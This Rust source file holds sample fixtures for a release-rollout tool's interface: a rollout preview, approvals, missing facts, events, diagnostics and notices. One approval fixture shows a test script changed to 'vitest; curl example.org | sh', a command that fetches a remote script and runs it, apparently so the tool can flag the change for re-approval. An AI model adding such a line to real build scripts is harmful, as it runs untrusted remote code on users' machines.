//! Answers that are not releases.

use super::sample::HOUR;
use super::sample::NOW;
use seaworthy_wire::*;

pub(crate) fn preview() -> StepPreview {
    StepPreview {
        title: "Advance sample 1.1.0 to 25 %?".to_owned(),
        action: "Advance to 25 %".to_owned(),
        release: "01999f00-0000-7000-8000-000000000001".to_owned(),
        expect: "1.1.0/rc.1/stage:1".to_owned(),
        consequences: vec![
            "A quarter of all requests goes to 1.1.0 (rc.1, 4f2a9c1be0), and three quarters stay on 1.0.0."
                .to_owned(),
            "Guardrails stay armed.".to_owned(),
        ],
        calls: vec![CallView {
            method: "RUN".to_owned(),
            target: "./set-share".to_owned(),
            body: vec!["SHARE=25".to_owned()],
        }],
        checks: vec![CheckedLine { state: State::Pass, text: "the soak of Canary is met".to_owned() }],
    }
}

pub(crate) fn approvals() -> Vec<ApprovalView> {
    let approval = |subject: &str, text: &str| ApprovalView {
        subject: subject.to_owned(),
        digest: format!("{:0<64}", hexlike(subject)),
        text: text.to_owned(),
        approved: false,
        before: None,
        problem: None,
        warning: None,
    };
    vec![
        approval("check lint", "npm run lint\nscripts.lint: eslint ."),
        ApprovalView {
            before: Some("npm test\nscripts.test: vitest".to_owned()),
            ..approval("check test", "npm test\nscripts.test: vitest; curl example.org | sh")
        },
        ApprovalView {
            approved: true,
            before: Some("x".to_owned()),
            ..approval("target web: deploy", "./deploy.sh")
        },
        ApprovalView {
            problem: Some("package.json has no script named e2e".to_owned()),
            ..approval("check e2e", "npm run e2e")
        },
    ]
}

fn hexlike(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

pub(crate) fn missing() -> Fault {
    let fact = |name: &str, title: &str, state, reason: &str, act: Option<&str>| MissingFact {
        name: name.to_owned(),
        title: title.to_owned(),
        state,
        reason: reason.to_owned(),
        act: act.map(str::to_owned),
    };
    let mut fault =
        Fault::new(Code::NotReady, "two facts are missing before sample 1.1.0 may be deployed to production")
            .with_help("nothing was sent");
    fault.missing = vec![
        fact("pre/errors", "error_rate < 1%", State::NoData, "nothing was measured yet", None),
        fact(
            "pre/legal",
            "Legal review completed",
            State::Pending,
            "nobody has said so yet",
            Some("seaworthy attest pre/legal"),
        ),
    ];
    fault
}

pub(crate) fn events() -> EventPage {
    let event = |seq, text: &str, release: Option<&str>| EventView {
        seq,
        at: NOW - HOUR,
        actor: "ada".to_owned(),
        kind: "hold_placed".to_owned(),
        state: State::Pass,
        text: text.to_owned(),
        release: release.map(str::to_owned),
        release_name: release.map(|_| "sample 1.1.0".to_owned()),
        call: None,
        back: false,
        hash: "aa".repeat(32),
    };
    EventPage {
        events: vec![
            event(
                8,
                "Forward motion was stopped: waiting for support to be back from lunch",
                Some("0193-sample"),
            ),
            event(7, "The engine started", None),
        ],
        next: None,
        doubt: None,
    }
}

pub(crate) fn doctor() -> DoctorView {
    let line =
        |what: &str, state, text: &str| DoctorLine { what: what.to_owned(), state, text: text.to_owned() };
    DoctorView {
        lines: vec![
            line("data directory", State::Pass, "/home/ada/.local/share/seaworthy"),
            line(
                "notifications",
                State::NoData,
                "no notification service answers on this session's bus; breaches are shown in the terminal only",
            ),
        ],
    }
}

pub(crate) fn card() -> ReleaseCard {
    ReleaseCard {
        id: "0193-sample".to_owned(),
        project: "sample".to_owned(),
        version: "1.1.0".to_owned(),
        state: State::Running,
        lifecycle: "rolling out".to_owned(),
        over: false,
        updated: NOW,
    }
}

pub(crate) fn attention() -> AttentionView {
    let quiet = QuietView { from: "22:00".into(), to: "07:00".into(), zone: "Europe/Berlin".into() };
    AttentionView {
        quiet: Some(quiet),
        names_hidden: true,
        service: None,
        problem: Some("org.freedesktop.Notifications is not on the bus".into()),
    }
}

/// A breach that nobody saw and a rollback that nobody could be told.
pub(crate) fn notices() -> NoticesView {
    let title = |what: &str| format!("sample 1.1.0: {what}");
    NoticesView {
        open: vec![NoticeView {
            title: title("errors is over its limit"),
            body: "error_rate > 1%: 3 %".into(),
            said: Some(super::sample::NOW - 60_000),
            times: 2,
        }],
        unheard: vec![UnheardView {
            title: title("errors is over its limit"),
            why: "no notification service".into(),
            at: super::sample::NOW - 60_000,
        }],
    }
}
